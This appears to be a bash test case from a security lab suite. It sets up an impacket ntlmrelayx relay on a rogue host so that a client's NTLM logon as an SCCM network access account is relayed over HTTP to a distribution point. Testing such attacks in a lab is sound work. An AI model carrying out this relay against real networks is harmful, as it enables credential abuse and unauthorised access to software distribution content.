#!/bin/bash
# A client is led to rogue01, where impacket's ntlmrelayx hands its NTLM logon on to dp01 over HTTP.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/samba.sh"
serve dp01 --roles dp --dp-auth ntlm
relay rogue01 80 -t "http://dp01.corp.example/SMS_DP_SMSPKG\$/PS100012/sccm?/readme.html" --no-smb-server
record
web client01 --ntlm -u "CORP\\svc_naa:$PASSWORD" http://rogue01.corp.example/index.html || true
sleep 1
finish
